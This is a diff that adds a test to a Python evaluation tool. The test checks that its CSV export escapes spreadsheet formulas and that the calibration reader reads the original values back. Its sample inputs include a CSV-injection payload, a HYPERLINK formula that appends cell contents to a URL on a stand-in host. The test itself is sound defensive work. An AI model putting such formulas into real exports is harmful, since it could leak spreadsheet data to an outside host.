@@ -159,6 +159,41 @@ def test_metrics_junit_and_exports(fake_server: FakeModelServer, workspace: Path
     assert len(list((workspace / "out/sessions").glob("*.json"))) == 2
 
 
+# A spreadsheet runs a cell starting with =, +, -, @, a tab or a carriage return as a formula
+# (OWASP, "CSV Injection": https://owasp.org/www-community/attacks/CSV_Injection).
+HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "-1+2 looks like a sum", "'=quoted"]
+
+
+def test_the_csv_export_neutralises_formulas_and_calibrate_reads_them_back(
+    fake_server: FakeModelServer, workspace: Path
+):
+    # Before: a reason starting with = was written raw and ran when the CSV was opened
+    # (docs/calibration.md, "Exports in spreadsheets").
+    fake_server.queue(
+        *conversation(), respond(-2, HOSTILE[0]), respond(-2, HOSTILE[1]), respond(1, HOSTILE[2])
+    )
+    result = verify(
+        fake_server, "--repeats", "3", "--concurrency", "1",
+        "--grades-csv", "out/grades.csv", "--grades-jsonl", "out/grades.jsonl",
+        cwd=workspace,
+    )  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader((workspace / "out/grades.csv").open(encoding="utf-8")))
+    assert [r["reason"] for r in rows] == ["'" + reason for reason in HOSTILE]
+    assert [r["score"] for r in rows] == ["-2", "-2", "1"]  # numbers stay numbers
+    jsonl = (workspace / "out/grades.jsonl").read_text().splitlines()
+    assert [json.loads(line)["reason"] for line in jsonl] == HOSTILE  # JSON lines as they were
+    # gambit calibrate (and verify --ratings) read the export as it was before
+    from gambit.cli._calibrate import load, read_files
+
+    back = [row for _, row in read_files([workspace / "out/grades.csv"])]
+    assert [(r["reason"], r["score"]) for r in back] == [
+        (HOSTILE[0], "-2"), (HOSTILE[1], "-2"), (HOSTILE[2], "1")
+    ]  # fmt: skip
+    (version,) = load([workspace / "out/grades.csv"]).versions.values()
+    assert list(version.scores.values()) == [[-2.0, -2.0, 1.0]]
+
+
 def test_thresholds_exit_1_and_say_which(fake_server: FakeModelServer, workspace: Path):
     fake_server.queue(*conversation(), respond(-1, "vague"))
     result = verify(
